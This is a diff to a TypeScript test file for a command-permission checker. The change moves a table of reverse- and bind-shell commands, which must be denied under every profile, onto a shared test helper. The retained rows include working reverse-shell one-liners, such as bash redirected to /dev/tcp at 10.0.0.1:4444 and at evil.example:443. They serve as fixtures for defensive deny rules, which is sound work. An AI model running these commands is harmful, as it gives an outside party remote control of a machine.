@@ -1,12 +1,11 @@
-import { describe, expect, test } from "vitest";
-import { decider, matches, type Expect } from "./profiles.ts";
+import { classTable, type ClassRow, type Expect } from "./profiles.ts";
 
 /**
  * Issue 11 §5, reverse and bind shells: a hard deny under every profile, however the shell is wired to the
  * socket. Each row is [command, permissive, guard]; look-alikes that only read or probe a socket stay allowed.
  */
 const RS: Expect = { check: "reverse-shell" };
-const ROWS: readonly (readonly [string, Expect, Expect])[] = [
+const ROWS: readonly ClassRow[] = [
   ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", RS, RS],
   ["sh -i >& /dev/udp/198.51.100.9/53 0>&1", RS, RS],
   ["/bin/bash -l > /dev/tcp/evil.example/443 0<&1 2>&1", RS, RS],
@@ -48,10 +47,4 @@ const ROWS: readonly (readonly [string, Expect, Expect])[] = [
   ["socat - TCP:localhost:8080", "allow", "allow"],
 ];
 
-describe.each(["permissive", "guard"] as const)("reverse and bind shells under the %s profile", (profile) => {
-  const decide = decider(profile);
-  test.each(ROWS.map(([c, p, g]) => [c, profile === "permissive" ? p : g] as const))("%s", async (command, want) => {
-    const got = await decide(command);
-    expect(matches(got, want), JSON.stringify(got)).toBe(true);
-  });
-});
+classTable("reverse and bind shells under the %s profile", ROWS);
